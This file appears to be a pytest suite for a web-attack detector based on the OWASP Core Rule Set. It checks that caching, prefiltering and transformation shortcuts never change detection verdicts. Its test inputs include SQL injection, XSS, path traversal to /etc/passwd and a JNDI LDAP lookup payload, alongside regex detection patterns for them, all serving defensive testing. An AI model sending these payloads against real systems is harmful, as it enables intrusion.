"""The CRS engine's speed devices must never change a verdict: compiled patterns searched over
joined values, the character-kind prefilter derived from each pattern, transformation chains
that skip the values a transformation cannot change, vectorized Base64, and the verdict cache.
Each is checked against the plain, per-value computation."""

from __future__ import annotations

import base64
import binascii
import random
import re

import numpy as np
import pyarrow as pa
import pyarrow.compute as pc
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from crskit import SHARED_CRS, request_frame
from detector.detection.crs import transforms as T
from detector.detection.crs.charsets import admits, phrase_requirement, reduced, requirement, signatures
from detector.detection.regex import Pattern
from detector.detection.crs.screen import VerdictCache

ALPHABET = "abcxyzSELECTunion qé\n\r\t/;.\\%+&#<>'\"()=-_*0189\x00\u212a\u017f"
PATTERNS = [
    r"(?s)(?i)union\s+select",
    r"(?s)^abc",
    r"(?s)xyz$",
    r"(?s)\Aq",
    r"(?s)a.*b",
    r"(?s)[^a]{3}z",
    r"(?s)^$",
    r"(?s)\bfoo\b",
    r"(?s)[\n\r]",
    r"(?s)é+",
    r"(?s)(?:^|[/;\x5c])\.{2,3}[/;\x5c]",
    r"(?s)(?i)k[^s]*s",  # folds to the KELVIN SIGN and LONG S
    r"(?s)<(?:script|img)[^>]*>",
    r"(?s)(?i:select|union)[\s\x0b]*\(",
    r"(?s)\x{e9}|\x00",
    r"(?s)'[\s\x0b]*(?:or|and)[\s\x0b]*'",
    r"(?s)[0-9]{2,}",
    r"(?s)%[0-9a-f]{2}",
    r"(?s)(?:\$|&dollar;?)(?:\{|&l(?:brace|cub);?)",
]


def random_values(seed: int, count: int = 3000) -> list[str]:
    rng = random.Random(seed)
    values = ["".join(rng.choice(ALPHABET) for _ in range(rng.randint(0, 16))) for _ in range(count)]
    return values + ["", "abc", "union select", "UNION  SELECT", "q", "foo", "\u212aiss", "x\u017felect("]


@pytest.mark.parametrize("pattern", PATTERNS)
def test_compiled_pattern_over_joined_values_finds_exactly_what_pyarrow_finds(pattern):
    values = pa.array(random_values(hash(pattern) % 1000))
    compiled = Pattern(pattern)
    want = pc.match_substring_regex(values, pattern).to_numpy(zero_copy_only=False)
    assert (compiled.search(values) == want).all()
    assert (compiled.search(values.slice(5, 10)) == want[5:15]).all()  # value by value
    assert (compiled.search(values) == want).all()  # again, after its statistics moved


def test_a_pattern_whose_search_lands_in_every_value_switches_kernel_and_finds_the_same():
    values = pa.array([f"v{i}" for i in range(3000)] + ["a\nb"])
    compiled = Pattern(r"(?s)\n[a-z]")  # its search copy matches at every separator
    want = pc.match_substring_regex(values, r"(?s)\n[a-z]").to_numpy(zero_copy_only=False)
    assert (compiled.search(values) == want).all()
    assert compiled.landed > 1000  # the first search landed in (almost) every value ...
    assert (compiled.search(values) == want).all()
    assert compiled.landed < 4000  # ... the second ran in pyarrow's kernel (it counts matches only)


def test_a_pattern_most_values_match_still_finds_exactly_the_same():
    values = pa.array(random_values(7, 6000))
    compiled = Pattern(r"(?s)[a-z]")
    want = pc.match_substring_regex(values, r"(?s)[a-z]").to_numpy(zero_copy_only=False)
    for _ in range(3):  # the first call counts, the later ones run in pyarrow's kernel
        assert (compiled.search(values) == want).all()


@pytest.mark.parametrize("pattern", PATTERNS)
def test_the_character_prefilter_never_drops_a_value_the_pattern_matches(pattern):
    values = pa.array(random_values(1 + hash(pattern) % 1000))
    matched = pc.match_substring_regex(values, pattern).to_numpy(zero_copy_only=False)
    for terms in (requirement(pattern), reduced(requirement(pattern), cap=2)):
        assert admits(terms, signatures(values))[matched].all()


def test_the_prefilter_keeps_out_values_without_the_needed_characters():
    terms = requirement(r"(?s)(?i)union\s+select")
    kept = admits(terms, signatures(pa.array(["union select", "1234", "/products/1001-trail-runner", "union 1"])))
    assert kept.tolist() == [True, False, False, False]


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    phrases=st.lists(st.text(alphabet=ALPHABET, min_size=1, max_size=5), min_size=1, max_size=6),
    values=st.lists(st.text(alphabet=ALPHABET, max_size=12), min_size=1, max_size=30),
)
def test_phrase_requirements_are_sound(phrases, values):
    pattern = "(?i)(?:" + "|".join(re.escape(p) for p in phrases) + ")"
    array = pa.array(values)
    matched = pc.match_substring_regex(array, pattern).to_numpy(zero_copy_only=False)
    assert admits(phrase_requirement(tuple(phrases)), signatures(array))[matched].all()


CHAINS = [
    ("urlDecodeUni",), ("urlDecodeUni", "lowercase"), ("cmdLine",), ("normalizePath",), ("normalizePathWin",),
    ("utf8toUnicode", "urlDecodeUni", "htmlEntityDecode", "jsDecode", "cssDecode", "removeNulls"),
    ("compressWhitespace",), ("removeWhitespace",), ("replaceComments",), ("removeComments",),
    ("removeCommentsChar",), ("trim",), ("trimLeft",), ("trimRight",), ("replaceNulls",), ("escapeSeqDecode", "length"),
    ("urlDecodeUni", "jsDecode", "removeWhitespace", "base64Decode", "urlDecodeUni"), ("urlDecodeUni", "cmdLine", "normalizePath"),
    ("lowercase", "urlDecodeUni"), ("lowercase", "urlDecodeUni", "lowercase"), ("cmdLine", "urlDecodeUni", "cmdLine"),
]  # fmt: skip


@pytest.mark.parametrize("seed", [1, 2, 3])
def test_transformation_chains_give_what_the_transformations_give_one_after_another(seed):
    rng = random.Random(seed)
    alphabet = "aB%2f+&#x3c;\\u003c/*-- \t\x00é./..;'\"^,\xa0%41" if seed % 2 else "aBC./\\%+ -#*%4A"
    values = pa.array(["".join(rng.choice(alphabet) for _ in range(rng.randint(0, 20))) for _ in range(3000)]
                      + ["abc", "A/B", "/a/./b/../c", "x  y", "%41%u0041", ".", ""])  # fmt: skip
    chains = T.TransformChains(values)
    for chain in CHAINS:
        want = values
        for name in chain:
            want = T.TRANSFORMS[name](want)
        staged = chains.get(chain)
        assert chains.take(staged.where).to_pylist() == want.to_pylist(), chain
        assert (staged.signature == signatures(want)).all(), chain


def _base64_reference(text: str) -> str:
    """ModSecurity's t:base64Decode, one value at a time."""
    if not re.match(r"[A-Za-z0-9+/]{4}", text):
        return ""
    data = re.match(r"[A-Za-z0-9+/]+", text).group(0)  # type: ignore[union-attr]
    data = data[:-1] if len(data) % 4 == 1 else data
    try:
        return base64.b64decode(data + "=" * (-len(data) % 4)).decode("latin-1")
    except (binascii.Error, ValueError):
        return ""


def test_base64_decode_over_the_whole_array_matches_decoding_each_value():
    rng = random.Random(5)
    values = ["".join(rng.choice("ABCabcxyz0189+/=-_ é%") for _ in range(rng.randint(0, 30))) for _ in range(5000)]
    values += ["", "abcd", "abc", "YWxlcnQoMSk=", "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg", "/////", "é"]
    got = T.base64_decode(pa.array(values)).to_pylist()
    assert got == [_base64_reference(v) for v in values]
    assert T.base64_decode(pa.array(["YWxlcnQoMSk=", None])).to_pylist() == ["alert(1)", ""]


def test_the_verdict_cache_is_bounded_and_keeps_what_comes_back():
    cache = VerdictCache(limit=100)
    cache.store(pa.array(["hot"]), np.array([1]))
    for batch in range(20):
        fresh = [f"v{batch}-{i}" for i in range(60)]
        assert cache.lookup(pa.array(["hot"] + fresh)).tolist() == [1] + [-1] * 60  # "hot" comes back every batch
        cache.store(pa.array(fresh), np.zeros(60, dtype=np.int32))
        assert len(cache) <= 2 * 100 + 60


@pytest.mark.skipif(not SHARED_CRS.exists(), reason="needs the CRS snapshot in ../shared/crs")
def test_one_evaluator_across_batches_scores_like_a_fresh_one_per_batch():
    from detector.checklist.crs import load_crs
    from detector.config import CrsSettings
    from detector.detection.crs.evaluate import CrsEvaluator

    from crskit import combined

    rules = load_crs(SHARED_CRS).select(CrsSettings(SHARED_CRS, paranoia=2))
    lines = [combined(t) for t in ("/search?q=rain+jacket", "/p?id=1%27%20OR%20%271%27%3D%271", "/static/app.js?v=4",
                                   "/?x=${jndi:ldap://203.0.113.9/a}", "/a/../../etc/passwd", "/search?q=o%27neill")]  # fmt: skip
    kept, forgetful = CrsEvaluator(rules), CrsEvaluator(rules, verdicts_per_variable=1)
    forgetful.screen.table.limit = 2  # the signature table forgets between batches
    for batch in range(3):
        frame = request_frame(lines[batch:] + lines[:batch], "combined")
        want = CrsEvaluator(rules).evaluate(frame).scores.tolist()
        assert kept.evaluate(frame).scores.tolist() == want
        assert forgetful.evaluate(frame).scores.tolist() == want


@pytest.mark.skipif(not SHARED_CRS.exists(), reason="needs the CRS snapshot in ../shared/crs")
def test_two_threads_sharing_one_evaluator_score_like_one_thread():
    """The pipeline may prepare two batches at once; the evaluator's caches are shared."""
    from concurrent.futures import ThreadPoolExecutor

    from crskit import combined
    from detector.checklist.crs import load_crs
    from detector.config import CrsSettings
    from detector.detection.crs.evaluate import CrsEvaluator

    rules = load_crs(SHARED_CRS).select(CrsSettings(SHARED_CRS, paranoia=2))
    rng = random.Random(4)
    words = ["rain", "jacket", "union", "select", "'", "<script>", "../", "%27", "alpine", "cat", "/etc/passwd", "1=1"]
    frames = [request_frame([combined("/s?q=" + "+".join(rng.choice(words) for _ in range(3)) + f"&n={b}-{i}")
                             for i in range(300)], "combined") for b in range(8)]  # fmt: skip
    want = [CrsEvaluator(rules).evaluate(frame).scores.tolist() for frame in frames]
    shared = CrsEvaluator(rules)
    with ThreadPoolExecutor(max_workers=2) as pool:
        got = list(pool.map(lambda frame: shared.evaluate(frame).scores.tolist(), frames))
    assert got == want


def test_a_batchs_transformed_values_are_freed_as_soon_as_it_is_scored(tmp_path):
    """The transformation store of the values a batch evaluates (tens of MB on a busy log) must
    go with the batch by reference counting: left to the cyclic collector, which rarely visits
    long-lived objects, the stores of several batches piled up in a scan's peak memory."""
    import gc

    from crskit import combined, write_crs
    from detector.checklist.crs import load_crs
    from detector.config import CrsSettings
    from detector.detection.crs.evaluate import CrsEvaluator

    root = write_crs(tmp_path / "crs")
    evaluator = CrsEvaluator(load_crs(root).select(CrsSettings(root, paranoia=1)))
    frame = request_frame([combined(f"/s?q=union%20SELECT+{i}", referer=f"https://x.example/?a=%3Cscript{i}")
                           for i in range(200)])  # fmt: skip
    gc.collect()
    gc.disable()
    try:
        assert evaluator.evaluate(frame).scores.max() >= 5  # the rules read transformed values
        left = [o for o in gc.get_objects() if isinstance(o, (T.TransformChains, T.Staged))]
    finally:
        gc.enable()
    assert left == []
